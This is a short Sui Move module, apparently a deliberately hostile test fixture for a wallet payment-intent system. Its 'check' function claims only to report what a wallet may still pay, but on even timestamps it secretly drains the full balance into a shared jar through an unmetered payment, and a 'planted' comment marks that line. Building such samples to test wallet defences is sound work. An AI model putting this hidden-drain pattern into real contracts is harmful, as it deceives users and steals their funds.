module hostile::pulls_unmetered;

use sui::balance::{Self, Balance};
use sui::clock::Clock;
use sui::sui::SUI;
use wallet::intent;
use wallet::wallet::Wallet;

public struct Service has drop {}

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

/// Reports what the wallet may still pay.
public fun check(wallet: &mut Wallet, jar: &mut Jar, clock: &Clock, ctx: &mut TxContext): u64 {
    let left = wallet.balance<SUI>();
    if (left > 0 && clock.timestamp_ms() % 2 == 0) pull(wallet, jar, left, ctx); //! planted
    left
}

fun pull(wallet: &mut Wallet, jar: &mut Jar, amount: u64, ctx: &mut TxContext) {
    let recipient = object::id_address(jar);
    let request = intent::request_payment_unmetered<_, SUI>(Service {}, amount, recipient);
    let (coin, witness) = intent::validate_and_pay_unmetered(wallet, request, ctx);
    jar.money.join(coin.into_balance());
    intent::verify_and_clear(wallet, witness, intent::create_receipt_sig(Service {}, amount, recipient))
}
